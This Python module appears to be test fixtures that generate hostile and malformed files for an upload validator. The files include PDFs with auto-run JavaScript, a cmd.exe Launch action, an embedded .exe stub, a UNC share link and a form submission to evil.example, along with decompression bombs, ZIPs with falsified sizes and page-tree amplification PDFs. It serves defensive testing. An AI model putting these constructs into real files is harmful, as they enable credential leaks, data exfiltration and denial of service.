"""Files as people send them, and as nobody should: made here, byte for byte the same each time."""

import hashlib
import io
import random
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import xlsxwriter
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

SHEET = "xl/worksheets/sheet1.xml"


def pdf_bytes(
    pages: int = 2,
    encryption: pikepdf.Encryption | None = None,
    change: Callable[[pikepdf.Pdf], object] | None = None,
) -> bytes:
    """A PDF of empty F4 pages; ``change`` adds to it what it likes."""
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page(page_size=(595, 935))
        if change is not None:
            change(pdf)
        pdf.save(
            buffer, encryption=encryption, object_stream_mode=pikepdf.ObjectStreamMode.generate
        )
    return buffer.getvalue()


def image_bytes(kind: str, size: tuple[int, int] = (320, 200), **options: Any) -> bytes:
    """A picture of noise, as PNG, JPEG or another ``kind`` of Pillow's."""
    buffer = io.BytesIO()
    noise = random.Random(20260312).randbytes(size[0] * size[1] * 3)  # noqa: S311  a picture
    Image.frombytes("RGB", size, noise).save(buffer, kind, **options)
    return buffer.getvalue()


def flat_image(kind: str, size: tuple[int, int]) -> bytes:
    """A picture of one colour: small as a file, as large as ``size`` once it is unpacked."""
    buffer = io.BytesIO()
    Image.new("1" if kind == "PNG" else "L", size).save(buffer, kind)
    return buffer.getvalue()


def workbook_bytes(extra: dict[str, bytes] | None = None) -> bytes:
    """A workbook with two titles; ``extra`` are more parts of the package."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        book.add_worksheet("Personel").write_row(0, 0, ["Nama lengkap", "NIP/NI PPPK"])
    if extra:
        with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
            for name, content in extra.items():
                archive.writestr(name, content)
    return buffer.getvalue()


def workbook_with(part: str, content: bytes) -> bytes:
    """The workbook with one of its parts replaced."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook_bytes())) as plain,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as changed,
    ):
        for info in plain.infolist():
            own = content if info.filename == part else plain.read(info)
            changed.writestr(info.filename, own)
    return buffer.getvalue()


def workbook_part(part: str) -> bytes:
    """One part of the plain workbook."""
    with zipfile.ZipFile(io.BytesIO(workbook_bytes())) as plain:
        return plain.read(part)


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    """A ZIP archive of ``parts``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def lying_zip(data: bytes, part: str, claimed: int) -> bytes:
    """The archive with the unpacked size of ``part`` falsified, in its directory and its header."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(part)
    changed = bytearray(data)
    directory = data.index(b"PK\x01\x02", data.rindex(part.encode()) - 46)
    for place in (info.header_offset + 22, directory + 24):
        changed[place : place + 4] = claimed.to_bytes(4, "little")
    return bytes(changed)


# -- PDFs that do something ----------------------------------------------------------------------


def open_script(pdf: pikepdf.Pdf) -> None:
    """Runs a script when it is opened."""
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def named_script(pdf: pikepdf.Pdf) -> None:
    """Brings a script in its name tree, in a stream of its own."""
    script = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))
    tree = Dictionary(Names=Array([String("a"), pdf.make_indirect(script)]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def rendition_script(pdf: pikepdf.Pdf) -> None:
    """Runs a script when a film would be shown."""
    action = Dictionary(S=Name("/Rendition"), JS=String("app.alert(1)"))
    pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, A=action)])


def form_of_adobe(pdf: pikepdf.Pdf) -> None:
    """Carries an XFA form."""
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def launch(pdf: pikepdf.Pdf) -> None:
    """Starts a program when its first page is shown, told two actions deep."""
    program = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    opened = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([program]))
    pdf.pages[0].obj.AA = Dictionary(O=opened)


def file_on_a_share(pdf: pikepdf.Pdf) -> None:
    """Opens a file of somebody else's server, to which Windows would sign in."""
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoToR, F=String(r"\\evil.example\a.pdf"), D=Array([0, Name.Fit])
    )


def submission(pdf: pikepdf.Pdf) -> None:
    """Sends what is typed into it to somebody."""
    field = Dictionary(
        FT=Name.Btn,
        T=String("a"),
        A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def embedded_program(pdf: pikepdf.Pdf) -> None:
    """Carries a program as an attachment."""
    pdf.attachments["faktur.exe"] = pikepdf.AttachedFileSpec(
        pdf,
        b"MZ" + bytes(64),
        description="",
        filename="faktur.exe",
        mime_type="application/octet-stream",
        creation_date="",
        mod_date="",
    )


def link(pdf: pikepdf.Pdf) -> None:
    """Has a link to a web page, as letters do."""
    target = Dictionary(S=Name.URI, URI=String("https://lkpp.go.id"))
    pdf.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=target)]
    )


def text_form(pdf: pikepdf.Pdf) -> None:
    """Has a field to be filled in, without any action."""
    field = Dictionary(FT=Name.Tx, T=String("nama"), V=String("Budi"))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def many_objects(count: int) -> Callable[[pikepdf.Pdf], object]:
    """Small objects that nothing needs."""

    def add(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Extra = Array([pdf.make_indirect(Dictionary(A=1)) for _ in range(count)])

    return add


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF of hand-written objects, the first of them its catalog."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
        + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    )


def swelling_pdf(texts: int) -> bytes:
    """A PDF with so many little ``texts`` in one packed stream that takes next to no room."""
    head = b"5 0 "
    packed = zlib.compress(head + b"[" + b"(a)" * texts + b"]")
    told = b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>" % (len(head), len(packed))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 935]>>",
        told + b"stream\n" + packed + b"\nendstream",
    ]
    out, table = b"%PDF-1.7\n", bytes(7)
    for number, content in enumerate(objects, start=1):
        table += b"\x01" + len(out).to_bytes(4, "big") + bytes(2)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table += b"\x02" + (4).to_bytes(4, "big") + bytes(2)  # object 5, inside object 4
    table += b"\x01" + len(out).to_bytes(4, "big") + bytes(2)
    told = b"<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>" % len(table)
    return (
        out
        + b"6 0 obj\n%sstream\n%s\nendstream\nendobj\n" % (told, table)
        + b"startxref\n%d\n%%%%EOF\n" % len(out)
    )


def one_page_many_times(times: int) -> bytes:
    """A PDF whose list of pages names the same page again and again."""
    kids = b"3 0 R " * times
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (times, kids),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 935]>>",
    )


def pages_that_double(levels: int) -> bytes:
    """A PDF whose tree of pages names each branch twice: two to the power of ``levels`` pages."""
    branches = [
        b"<</Type/Pages/Count 2/Kids[%d 0 R %d 0 R]>>" % (level + 3, level + 3)
        for level in range(levels)
    ]
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", *branches, b"<</Type/Page/MediaBox[0 0 595 935]>>"
    )


def signed_pdf() -> bytes:
    """A PDF with a signature as certified providers place it: appended to the signed bytes.

    The signature value itself is filler: nothing here judges certificates.
    """
    whole = pdf_bytes(1)
    with pikepdf.open(io.BytesIO(whole)) as pdf:
        root, count = pdf.Root.objgen[0], len(pdf.objects) + 1
        pages = pdf.Root.Pages.objgen[0]
    previous = int(whole.rsplit(b"startxref", 1)[1].split()[0])
    value = hashlib.sha256(whole).hexdigest().encode() * 64
    field, signature = count + 1, count + 2
    parts = {
        root: b"<</Type/Catalog/Pages %d 0 R/AcroForm<</Fields[%d 0 R]/SigFlags 3>>>>"
        % (pages, field),
        field: b"<</FT/Sig/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/T(Tanda tangan)/V %d 0 R>>"
        % signature,
        signature: b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached"
        b"/M(D:20260706093000+08'00')/ByteRange[0 %d %d 9999]/Contents<%s>>>"
        % (len(whole), len(whole) + len(value), value),
    }
    out, entries = whole + b"\n", b""
    for number, content in parts.items():
        entries += b"%d 1\n%010d 00000 n \n" % (number, len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    trailer = b"<</Size %d/Root %d 0 R/Prev %d>>" % (signature + 1, root, previous)
    return out + b"xref\n%strailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (entries, trailer, len(out))
